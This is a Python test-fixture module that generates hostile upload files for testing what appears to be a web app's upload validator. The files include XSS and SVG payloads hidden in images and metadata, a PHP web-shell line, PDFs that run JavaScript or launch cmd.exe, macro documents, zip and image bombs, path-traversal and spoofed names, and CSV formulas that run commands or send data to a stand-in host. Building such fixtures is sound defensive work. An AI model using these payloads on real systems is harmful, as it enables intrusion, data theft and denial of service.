"""Files that nobody should hand on: made here, so that the repository holds none. {name: (file name, bytes, payload)}.

`payload` is what must not be found in any stored file; None where the whole file is the trouble.
"""

import io
import struct
import zipfile
import zlib
from functools import cache

from PIL import Image

SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)
PDF = b"%%PDF-1.7\n1 0 obj<</Type/Catalog%s>>endobj\ntrailer<</Root 1 0 R%s>>\n%%%%EOF\n"
OPENS_ADDRESS = b"2 0 obj<</S/URI/URI(http://quan-cu.example/)>>endobj\n%%EOF\n"
EXE = b"MZ\x90\x00" + bytes(200)
TYPES = '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="{}"/></Types>'
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"


def encoded(image, kind, **options):
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def noise(size=(64, 48), mode="RGB"):
    return Image.effect_noise(size, 70).convert(mode)


def zipped(parts, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def packed_pdf(objects, times=1, level=6):
    """A PDF whose `objects` lie in a stream, compressed so many times."""
    data = b"3 0 <<%s>>" % objects
    for _ in range(times):
        data = zlib.compress(data, level)
    head = b"2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(data)
    return (PDF % (b"", b"")).replace(b"trailer", head + data + b"\nendstream endobj\ntrailer")


def docx(types=WORD, **more):
    parts = {"[Content_Types].xml": TYPES.format(types), "word/document.xml": "<w:document/>"}
    return zipped(parts | more)


def odt(manifest="<manifest/>", **more):
    mimetype = "application/vnd.oasis.opendocument.text"
    return zipped({"mimetype": mimetype, "content.xml": "<a/>", "META-INF/manifest.xml": manifest} | more)


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width, height, rows=b""):
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows or bytes(1000)))
    return b"\x89PNG\r\n\x1a\n" + body + chunk(b"IEND", b"")


def with_gps():
    photo = noise()
    exif = photo.getexif()
    exif[0x8825] = {1: "N", 2: (21.0, 0.0, 12.0), 3: "E", 4: (105.0, 48.0, 0.0)}
    exif[0x010E] = "<script>alert(document.domain)</script>"
    return encoded(photo, "JPEG", exif=exif)


def encrypted_flag(data):
    """An archive whose entries say that they are encrypted, in the local headers and in the directory."""
    data = bytearray(data)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def named_raw(name):
    """An archive with a file whose name the zip library itself would have tidied up."""
    return zipped({"x" * len(name): b"a"}).replace(b"x" * len(name), name.encode())


@cache
def pictures():
    jpeg, png, gif = (encoded(noise(), kind) for kind in ("JPEG", "PNG", "GIF"))
    frames = [noise(mode="P") for _ in range(3)]
    red = Image.new("RGB", (40, 20), "red")
    return {
        "page": ("trang.html", HTML, None),
        "page called jpg": ("trang.jpg", HTML, None),
        "svg": ("anh.svg", SVG, None),
        "svg called png": ("anh.png", SVG, None),
        "xml": ("anh.png", b'<?xml version="1.0"?>' + SVG, None),
        "jpeg and page": ("anh.jpg.html", jpeg + HTML, b"script"),
        "gif and page": ("anh.gif", b"GIF89a/*" + HTML + b"*/", None),
        "gifar": ("anh.gif", gif + zipped({"Evil.class": b"\xca\xfe\xba\xbe"}), b"Evil.class"),
        "png and php": ("anh.php.png", png + b"<?php system($_GET[0]); ?>", b"php"),
        "jpeg comment": ("anh.jpeg", encoded(noise(), "JPEG", comment=SCRIPT), b"script"),
        "exif gps": ("anh.jpg", with_gps(), b"script"),
        "icc profile": ("anh.jpg", encoded(noise(), "JPEG", icc_profile=SCRIPT * 30), b"script"),
        "png text": ("anh.png", png[:33] + chunk(b"tEXt", b"Comment\0" + SCRIPT) + png[33:], b"script"),
        "bomb by header": ("anh.png", png_claiming(20_000, 20_000), None),
        "bomb in truth": ("anh.png", png_claiming(20_000, 20_000, bytes(60_001 * 400)), None),
        "long side": ("anh.png", png_claiming(10_001, 1), None),
        "zero side": ("anh.png", png_claiming(0, 0), None),
        "bomb gif": ("anh.gif", b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + gif[10:], None),
        "truncated jpeg": ("anh.jpg", jpeg[: len(jpeg) // 2], None),
        "truncated png": ("anh.png", png[: len(png) // 2], None),
        "animated gif": ("anh.gif", encoded(frames[0], "GIF", save_all=True, append_images=frames[1:]), b"GIF89a"),
        "animated webp": ("anh.webp", encoded(frames[0], "WEBP", save_all=True, append_images=frames[1:]), b"ANIM"),
        "cmyk": ("anh.jpg", encoded(red.convert("CMYK"), "JPEG"), None),
        "sixteen bits": ("anh.png", encoded(Image.new("I;16", (40, 20), 40_000), "PNG"), None),
        "bmp": ("anh.bmp", encoded(red, "BMP"), None),
        "tiff called jpg": ("anh.jpg", encoded(red, "TIFF"), None),
        "eps": ("anh.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\nshowpage\n", None),
        "empty": ("anh.png", b"", None),
        "eleven megabytes": ("anh.png", png + bytes(11 * 1024 * 1024), None),
        "rtl name": ("anh\u202egnp.exe", EXE, None),
        "nul name": ("anh.png\0.html", HTML, None),
        "path name": ("../../../settings.py", HTML, None),
        "long name": ("a" * 3000 + ".jpg", HTML, None),
    }


@cache
def documents():
    bomb = zipped({"a.txt": bytes(80_000_000)})
    manifest = '<manifest><encryption-data algorithm="AES"/></manifest>'
    template = (
        '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://x/a.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    outside = {"word/_rels/settings.xml.rels": template}
    return {
        "page": ("bao-cao.html", HTML, None),
        "svg": ("so-do.svg", SVG, None),
        "program": ("bao-cao.exe", EXE, None),
        "double ending": ("bao-cao.pdf.exe", EXE, None),
        "program called pdf": ("bao-cao.pdf", EXE, None),
        "page called pdf": ("bao-cao.pdf", HTML, None),
        "pdf and page": ("bao-cao.pdf", b"%PDF-1.4\n%" + HTML + b"\n%%EOF", None),
        "pdf and archive": ("bao-cao.pdf", PDF % (b"", b"") + zipped({"a.txt": b"a"}) + b"%%EOF", None),
        "pdf with script": ("bao-cao.pdf", PDF % (b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>", b""), None),
        "pdf with hidden script": ("bao-cao.pdf", PDF % (b"/OpenAction<</S/J#61vaScript>>", b""), None),
        "pdf that launches": ("bao-cao.pdf", PDF % (b"/OpenAction<</S/Launch/F(cmd.exe)>>", b""), None),
        "pdf with password": ("bao-cao.pdf", PDF % (b"", b"/Encrypt 2 0 R"), None),
        "pdf with a file": ("bao-cao.pdf", PDF % (b"/Names<</EmbeddedFiles 2 0 R>>", b""), None),
        "pdf with packed script": ("bao-cao.pdf", packed_pdf(b"/Names<</JavaScript 2 0 R>>"), None),
        "pdf with packed file": ("bao-cao.pdf", packed_pdf(b"/Names<</Embedded#46iles 2 0 R>>"), None),
        "pdf packed twice": ("bao-cao.pdf", packed_pdf(b"/JavaScript 2 0 R", times=2), None),
        "pdf that hides between streams": (
            "bao-cao.pdf",
            PDF % (b"\n%stream\n/Names<</JavaScript 2 0 R>>\n%endstream\n", b""),
            None,
        ),
        "pdf that opens an address": ("bao-cao.pdf", PDF % (b"/OpenAction 2 0 R", b"") + OPENS_ADDRESS, None),
        "pdf bomb": ("bao-cao.pdf", packed_pdf(bytes(130_000_000), level=9), None),
        "pdf of many streams": ("bao-cao.pdf", PDF % (b"/ObjStm " * 1_000_000, b""), None),
        "half a pdf": ("bao-cao.pdf", b"%PDF-1.7\n1 0 obj<<", None),
        "macros": ("don.docx", docx(types=WORD_MACRO), None),
        "vba": ("don.docx", docx(**{"word/vbaProject.bin": b"\xcc\x61"}), None),
        "activex": ("don.docx", docx(**{"word/activeX/activeX1.xml": "<a/>"}), None),
        "program inside": ("don.docx", docx(**{"word/embeddings/a.exe": EXE}), None),
        "outside template": ("don.docx", docx(**outside), None),
        "entities": ("don.docx", docx(**{"[Content_Types].xml": '<!DOCTYPE a [<!ENTITY b "c">]>'}), None),
        "word of yesterday": ("don.docx", OLD_OFFICE, None),
        "sheet called docx": ("don.docx", zipped({"[Content_Types].xml": "<a/>", "xl/workbook.xml": "<a/>"}), None),
        "half an archive": ("don.docx", docx()[:-30], None),
        "odt with password": ("don.odt", odt(manifest=manifest), None),
        "odt with macros": ("don.odt", odt(**{"Basic/Standard/script.xml": "<a/>"}), None),
        "odt of another kind": ("don.ods", odt(), None),
        "zip bomb": ("bieu.zip", bomb, None),
        "nested bomb": ("bieu.zip", zipped({f"{n}.zip": bomb for n in range(9)}), None),
        "bombs in documents": (
            "bieu.zip",
            zipped({f"{n}.docx": docx(**{"word/a.xml": bytes(30_000_000)}) for n in range(3)}, zipfile.ZIP_STORED),
            None,
        ),
        "many entries": ("bieu.zip", zipped({f"{n}.txt": b"" for n in range(2_500)}), None),
        "encrypted zip": ("bieu.zip", encrypted_flag(zipped({"a.txt": b"abc"})), None),
        "way out": ("bieu.zip", zipped({"../../settings.py": b"a"}), None),
        "absolute way": ("bieu.zip", zipped({"/etc/cron.d/a.txt": b"a"}), None),
        "drive": ("bieu.zip", named_raw("C:\\a\\b.txt"), None),
        "nul in a name": ("bieu.zip", named_raw("a.txt\0.exe"), None),
        "rtl in a name": ("bieu.zip", zipped({"a\u202etxt.exe": b"a"}), None),
        "page in a zip": ("bieu.zip", zipped({"trang.html": HTML}), None),
        "svg in a zip": ("bieu.zip", zipped({"a.svg": SVG}), None),
        "page called jpg in a zip": ("bieu.zip", zipped({"a.jpg": HTML}), None),
        "macros in a zip": ("bieu.zip", zipped({"a.docx": docx(types=WORD_MACRO)}), None),
        "jar": ("bieu.zip", zipped({"META-INF/MANIFEST.MF": b"a", "A.class": b"\xca\xfe"}), None),
        "gifar": ("bieu.zip", encoded(noise(), "GIF") + zipped({"a.txt": b"a"}), None),
        "page called txt": ("ghi-chu.txt", HTML, None),
        "svg called txt": ("ghi-chu.txt", b"\n  " + SVG, None),
        "bytes called txt": ("ghi-chu.txt", bytes(range(256)), None),
        "old encoding": ("ghi-chu.txt", "Đơn xin".encode("cp1258", "replace") + b"\xd0\xff", None),
        "command in a sheet": ("bieu.csv", b"a,b\n=cmd|'/c calc'!A0,2\n", None),
        "address in a sheet": ("bieu.csv", b'a,b\n"=HYPERLINK(""http://x/""&A1)",2\n', None),
        "rtl name": ("bao-cao\u202efdp.exe", EXE, None),
        "nul name": ("bao-cao.pdf\0.exe", EXE, None),
        "path name": ("../../../media/a.html", HTML, None),
        "no ending": ("baocao", PDF % (b"", b""), None),
        "old word": ("don.doc", OLD_OFFICE, None),
        "twenty-one megabytes": ("lon.txt", b"a" * (21 * 1024 * 1024), None),
        "empty": ("rong.pdf", b"", None),
    }
